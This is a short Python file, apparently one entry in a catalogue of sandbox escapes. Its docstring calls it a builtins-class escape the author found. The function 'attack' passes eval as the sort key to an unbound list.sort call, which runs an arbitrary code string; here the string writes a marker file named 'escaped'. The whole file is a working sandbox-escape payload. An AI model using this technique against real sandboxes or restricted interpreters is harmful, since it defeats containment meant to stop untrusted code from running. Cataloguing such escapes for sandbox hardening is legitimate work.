"""Class: builtins. Source: own find. Escape: the unbound `list.sort` calls what is not listed."""


def attack(model, tokenizer, address):
    list.sort(["open('escaped', 'w').close() or 1"], key=eval)
